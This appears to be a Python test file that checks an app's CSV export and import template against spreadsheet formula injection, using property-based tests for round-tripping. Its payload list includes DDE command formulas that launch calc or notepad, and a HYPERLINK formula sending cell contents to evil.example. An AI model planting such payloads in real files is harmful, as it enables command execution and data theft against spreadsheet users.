"""CSV the app writes opens in a spreadsheet as text, never as a formula; numbers stay numbers."""

from __future__ import annotations

import csv
import io
import math
from datetime import date

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from socialplan.csvsafe import (
    FORMULA_STARTS,
    PLAIN_NUMBER,
    csv_text,
    spreadsheet_safe,
    unneutralised,
)
from socialplan.imports import read_import, template_csv
from socialplan.imports.formats import normalise_name
from socialplan.imports.reading import LONG_NAMES
from tests.reliability.conftest import examples

PAYLOADS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example/?"&A1, "click")',
    "+cmd|' /C notepad'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+2",
    "\r=1+2",
    "\n=1+2",
    "＝1+2",
    "=1+2",
    "-",
    "+",
    "@rosasbakery",
]
CELLS = st.one_of(
    st.text(),
    st.sampled_from(PAYLOADS),
    st.builds("{}{}".format, st.sampled_from(FORMULA_STARTS + ("'", "''")), st.text(max_size=10)),
)


def is_formula_start(text: str) -> bool:
    return text.startswith(FORMULA_STARTS) and not PLAIN_NUMBER.fullmatch(text)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_every_known_formula_payload_gets_a_quote_in_front(payload):
    assert spreadsheet_safe(payload) == "'" + payload


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        (-5, "-5"),
        (-5.25, "-5.25"),
        (0, "0"),
        (12, "12"),
        ("-5", "-5"),
        ("+1.5e3", "+1.5e3"),
        ("-.5", "-.5"),
        (None, ""),
        (True, "True"),
        ("Rosa's Bakery", "Rosa's Bakery"),
        ("  =1", "  =1"),  # a leading space makes it text in every spreadsheet
        (float("-inf"), "'-inf"),
        (float("nan"), "nan"),
    ],
)
def test_numbers_stay_numbers_and_plain_text_is_untouched(cell, written):
    assert spreadsheet_safe(cell) == written


@examples(ci=200, full=10_000)
@given(CELLS)
def test_no_text_cell_starts_like_a_formula_and_the_original_reads_back(text):
    safe = spreadsheet_safe(text)
    assert not is_formula_start(safe)
    assert unneutralised(safe) == text


@examples(ci=100, full=5_000)
@given(st.one_of(st.integers(), st.floats(allow_nan=False, allow_infinity=False)))
def test_a_number_is_written_as_the_same_number(number):
    written = spreadsheet_safe(number)
    assert PLAIN_NUMBER.fullmatch(written)
    assert float(written) == float(number) or math.isclose(float(written), float(number))


@examples(ci=80, full=3_000)
@given(st.lists(st.lists(st.one_of(CELLS, st.integers(), st.none()), max_size=6), max_size=8))
# Found by this property: with "\n" line ends the csv module leaves a cell holding a lone
# "\r" unquoted, and readers end the row there (a business renamed "Rosa\rBakery" split its
# leaderboard row in two). write_csv_rows now quotes such rows.
@example([["\r=1+2"]])
@example([["Rosa\rBakery", -5]])
def test_a_written_table_reads_back_cell_for_cell(rows):
    text = csv_text(rows)
    read = list(csv.reader(io.StringIO(text, newline="")))
    expected = [["" if cell is None else str(cell) for cell in row] for row in rows]
    assert [[unneutralised(cell) for cell in row] for row in read] == expected
    for row in read:
        assert not any(is_formula_start(cell) for cell in row)


def test_the_import_template_quotes_a_formula_named_metric_and_reads_it_back():
    names = ("=cmd|' /C calc'!A0", "-Leads", "@Orders", "Walk-ins")
    text = template_csv(names, start=date(2027, 3, 1))
    for row in csv.reader(io.StringIO(text)):
        assert not any(is_formula_start(cell) for cell in row), row
    assert "'=cmd|' /C calc'!A0" in text
    parsed = read_import(text.encode(), filename="template.csv")
    assert list(dict.fromkeys(reading.metric for reading in parsed.readings)) == list(names)


METRIC_NAMES = st.text(min_size=1, max_size=40).filter(
    lambda name: (
        name.strip() == name
        and normalise_name(name) not in LONG_NAMES
        and "\x00" not in name
        and "\r" not in name
    )
)


@examples(ci=40, full=1_000)
@given(st.lists(METRIC_NAMES, min_size=1, max_size=4, unique_by=normalise_name))
def test_any_metric_names_survive_the_template_round_trip(names):
    parsed = read_import(template_csv(names).encode(), filename="template.csv")
    assert list(dict.fromkeys(reading.metric for reading in parsed.readings)) == names
